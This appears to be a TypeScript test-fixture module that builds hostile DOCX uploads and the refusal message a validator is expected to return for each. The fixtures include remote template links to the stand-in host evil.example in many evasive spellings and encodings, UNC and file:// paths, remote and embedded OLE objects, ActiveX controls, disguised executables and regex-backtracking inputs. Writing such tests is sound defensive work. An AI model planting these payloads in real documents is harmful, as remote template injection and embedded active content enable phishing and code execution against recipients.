import { uploadMessages } from '#contract/http/uploads.ts';
import { refused } from '#server/platform/files/validation/file-errors.ts';
import { docxParts, links, makeDocx } from './documents.ts';
import type { HostileFile } from './hostile.ts';
import { makeZip, type ZipEntry } from './zip.ts';

const { broken, unsafe } = uploadMessages;
const { message: link } = refused('link');
const { message: file } = refused('embedded');
const { message: controls } = refused('controls');
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const strict = 'http://purl.oclc.org/ooxml/officeDocument/relationships';
const remote = 'http://evil.example/t.dotm';

const settingsLinks = 'word/_rels/settings.xml.rels';

const docx = (what: string, parts: readonly ZipEntry[], message: string): HostileFile => ({
  what: `a DOCX with ${what}`,
  name: 'cv.docx',
  content: () => makeDocx(parts),
  message,
});

/** Spellings of the same relationship that parsers treat as equal. */
const linkSpellings: Readonly<Record<string, string>> = {
  'attributes in another order': `<Relationship TargetMode="External" Target="${remote}" Type="${office}/attachedTemplate" Id="r1"/>`,
  'single quotes': `<Relationship Id='r1' Type='${office}/attachedTemplate' Target='${remote}' TargetMode='External'/>`,
  'spaces around equal signs': `<Relationship Id = "r1" Type\n= "${office}/attachedTemplate" Target =\t"${remote}" TargetMode = "External" />`,
  'entities in the target': `<Relationship Id="r1" Type="${office}/attachedTemplate" Target="&#104;ttp://evil.example/t.dotm" TargetMode="&#x45;xternal"/>`,
  'a prefix': `<p:Relationship xmlns:p="http://schemas.openxmlformats.org/package/2006/relationships" Id="r1" Type="${office}/attachedTemplate" Target="${remote}" TargetMode="External"/>`,
  'the strict form of its type': `<Relationship Id="r1" Type="${strict}/attachedTemplate" Target="${remote}" TargetMode="External"/>`,
  'a comment before it': `<!-- > --><Relationship Id="r1" Type="${office}/attachedTemplate" Target="${remote}" TargetMode="External"></Relationship>`,
  'a type that only ends in hyperlink': `<Relationship Id="r1" Type="x/hyperlink" Target="${remote}" TargetMode="External"/>`,
  'no mode': `<Relationship Id="r1" Type="${office}/attachedTemplate" Target="${remote}"/>`,
  'a mode in capitals': `<Relationship Id="r1" Type="${office}/attachedTemplate" Target="t.dotm" TargetMode="EXTERNAL"/>`,
};
const rels = (link: string) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${link}</Relationships>`;
const usual = rels(linkSpellings['single quotes'] ?? '');

const bigEndian = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le').swap16();

const remoteLinks: readonly HostileFile[] = [
  ...[
    'file://///evil.example/t.dotm',
    '\\\\evil.example\\t.dotm',
    'file://evil.example/C:/t.dotm',
    'file:///\\\\evil.example\\t.dotm',
    'file:///evil.example/t.dotm',
    'file:///C:\\\\evil.example\\t.dotm',
    'file:///C:/../../evil.example/t.dotm',
    'file:///C:/%5C%5Cevil.example/t.dotm',
    'file:///C:/x/http://evil.example/t.dotm',
    'file:///C:',
  ].map((target) =>
    docx(
      `a template at ${target}`,
      [links({ type: 'attachedTemplate', target, part: 'settings' })],
      link,
    ),
  ),
  docx(
    'a picture on the sender’s drive',
    [links({ type: 'image', target: 'file:///C:\\Pictures\\a.png' })],
    refused('linked-picture').message,
  ),
  ...Object.entries(linkSpellings).map(([what, spelling]) =>
    docx(
      `a remote template, with ${what}`,
      [{ name: settingsLinks, content: rels(spelling) }],
      link,
    ),
  ),
  docx(
    'a remote template, in UTF-16',
    [{ name: settingsLinks, content: Buffer.from(`\ufeff${usual}`, 'utf16le') }],
    link,
  ),
  docx(
    'a remote template, in big-endian UTF-16',
    [
      {
        name: settingsLinks,
        content: bigEndian(`<?xml version="1.0" encoding="UTF-16"?>${usual}`),
      },
    ],
    link,
  ),
  docx(
    'a remote template, in UTF-7',
    [{ name: settingsLinks, content: `<?xml version="1.0" encoding="UTF-7"?>${usual}` }],
    unsafe,
  ),
  docx(
    'relationships with a document type',
    [
      {
        name: settingsLinks,
        content: `<!DOCTYPE x [<!ENTITY e "${remote}">]>${rels('')}`,
      },
    ],
    unsafe,
  ),
  docx(
    'a remote template in another settings file',
    [{ name: 'word/_rels/other.xml.rels', content: usual }],
    link,
  ),
  docx(
    'a remote template, with its part in capitals',
    [{ name: 'WORD/_RELS/SETTINGS.XML.RELS', content: usual }],
    link,
  ),
  docx(
    'a remote object',
    [links({ type: 'oleObject', target: 'http://evil.example/x.html!' })],
    file,
  ),
  docx(
    'a picture on another computer',
    [links({ type: 'image', target: '\\\\evil.example\\share\\a.png' })],
    refused('linked-picture').message,
  ),
  docx('a remote frame', [links({ type: 'frame', target: 'https://evil.example/' })], link),
  docx(
    'a remote part of its text',
    [links({ type: 'aFChunk', target: 'https://evil.example/' })],
    file,
  ),
  docx(
    'relationships that are not XML',
    [{ name: settingsLinks, content: `${rels('')}<` }],
    broken,
  ),
];

const embeddedLink = (type: string, target: string): ZipEntry => ({
  name: 'word/_rels/document.xml.rels',
  content: rels(`<Relationship Id="r1" Type="${office}/${type}" Target="${target}"/>`),
});

const embedded: readonly HostileFile[] = [
  docx('an embedded object', [{ name: 'word/embeddings/oleObject1.bin', content: 'x' }], file),
  docx('an ActiveX control', [{ name: 'word/activeX/activeX1.xml', content: '<ax/>' }], controls),
  docx('a program', [{ name: 'word/media/image1.png', content: Buffer.from('MZ\x90\0') }], file),
  docx('a program by its name', [{ name: 'word/media/run.exe', content: 'x' }], file),
  docx(
    'an object under another name',
    [
      { name: 'word/media/image1.emf', content: Buffer.from('d0cf11e0a1b11ae1', 'hex') },
      embeddedLink('image', 'media/image1.emf'),
    ],
    file,
  ),
  docx('an object as a text part', [embeddedLink('oleObject', 'other/text1.xml')], file),
  docx('a control as a text part', [embeddedLink('control', 'other/text1.xml')], controls),
  docx('another document inside', [embeddedLink('aFChunk', 'other/text1.rtf')], file),
  {
    what: 'a DOCX that declares an object',
    name: 'cv.docx',
    content: () => {
      const [types, ...others] = docxParts();
      const object =
        '<Default Extension="x" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/></Types>';
      const content = String(types?.content).replace('</Types>', object);
      return makeZip([{ name: '[Content_Types].xml', content }, ...others]);
    },
    message: file,
  },
];

const docxWithRepeats = (what: string, text: string, times: number) =>
  docx(`relationships of ${what}`, [{ name: settingsLinks, content: text.repeat(times) }], unsafe);

/** Texts on which a regular expression backtracks from every word: each took a validator half a minute. */
const slow: readonly HostileFile[] = [
  docxWithRepeats('60,000 half attributes', 'attachedTemplate"', 60_000),
  docxWithRepeats('100,000 open elements', '<Relationship ', 70_000),
  docx(
    'half attributes that fill a part',
    [{ name: settingsLinks, content: 'attachedTemplate"'.repeat(3_800) }],
    broken,
  ),
  docx(
    'open elements that fill a part',
    [{ name: settingsLinks, content: '<Relationship>'.repeat(4_600) }],
    broken,
  ),
];

/** DOCX files that link to external content, embed active content, or take long to parse. */
export const hostileDocx: readonly HostileFile[] = [...remoteLinks, ...embedded, ...slow];
